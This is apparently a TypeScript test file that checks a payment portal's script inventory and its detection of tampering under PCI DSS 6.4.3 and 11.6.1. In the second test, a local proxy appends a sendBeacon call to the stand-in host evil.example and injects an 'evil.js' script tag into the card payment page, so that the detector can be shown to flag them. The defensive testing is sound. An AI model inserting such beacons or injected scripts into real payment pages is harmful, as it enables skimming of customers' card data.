import { createServer, type IncomingMessage, type ServerResponse } from 'node:http'
import { once } from 'node:events'
import type { AddressInfo } from 'node:net'
import { readInventory, type ScriptInventory } from '../../src/commands/script-inventory.ts'
import { walkPaymentPages } from '../../src/commands/walk-payment-pages.ts'
import { expect, test } from '../support/journey.ts'

/** CARD-2: the gateway whose popup is framed; in the sandbox its pages are the sandbox's. */
async function framesOf(portal: string): Promise<string[]> {
  const policy = (await fetch(`${portal}/about`)).headers.get('content-security-policy') ?? ''
  return /frame-src ([^;]+)/.exec(policy)?.[1]?.split(' ') ?? []
}

function builtInventory(): ScriptInventory {
  const inventory = readInventory()
  if (!inventory) throw new Error('nothing is built')
  return inventory
}

async function differencesAt(origin: string, frames: string[]): Promise<string[]> {
  const lines = await walkPaymentPages({
    origin,
    msisdn: '90000001',
    amount: 500,
    inventory: builtInventory(),
    rules: { assetBases: [''], frames },
  })
  expect(lines.length).toBeGreaterThan(20)
  return lines.flatMap(({ address, differences }) => differences.map((difference) => `${address}: ${difference}`))
}

/** A proxy that changes what it passes on, as a person would who got into it. */
async function changingProxy(portal: string, change: (path: string, body: string) => string) {
  async function pass(request: IncomingMessage, response: ServerResponse) {
    const body = Buffer.concat(await request.toArray())
    const { cookie = '', accept = '*/*', 'content-type': type } = request.headers
    const headers = { cookie, accept, 'accept-encoding': 'identity', origin: portal, ...(type !== undefined && { 'content-type': type }) }
    const answer = await fetch(`${portal}${request.url}`, {
      method: request.method ?? 'GET',
      redirect: 'manual',
      headers,
      ...(body.length > 0 && { body }),
    })
    const passed = [...answer.headers].filter(
      ([name]) => !['content-length', 'content-encoding', 'transfer-encoding', 'connection'].includes(name),
    )
    response.writeHead(answer.status, passed.flat()).end(change(request.url ?? '', await answer.text()))
  }
  const server = createServer((request, response) => void pass(request, response))
  await once(server.listen(0, '127.0.0.1'), 'listening')
  const { port } = server.address() as AddressInfo
  return { origin: `http://127.0.0.1:${port}`, close: () => server.close() }
}

test('PCI 6.4.3 the payment pages of the running portal have the scripts of the inventory and no others', async ({ portal }) => {
  expect(await differencesAt(portal, await framesOf(portal))).toEqual([])
})

test('PCI 11.6.1 a script that was changed on the way, and one that was added to a page, are found', async ({ portal }) => {
  const [changed = ''] = builtInventory().pages['/payment/start/card'] ?? []
  const proxy = await changingProxy(portal, (path, body) => {
    if (path === `/${changed}`) return `${body};navigator.sendBeacon('https://evil.example')`
    return path.startsWith('/payment/start/card') ? body.replace('</head>', '<script src="/assets/evil.js"></script></head>') : body
  })
  try {
    expect(await differencesAt(proxy.origin, await framesOf(portal))).toEqual([
      '/payment/start/card: a script that is not in the inventory: /assets/evil.js',
      expect.stringContaining(`/${changed}: ${changed} was changed: sha384-`),
    ])
  } finally {
    proxy.close()
  }
})
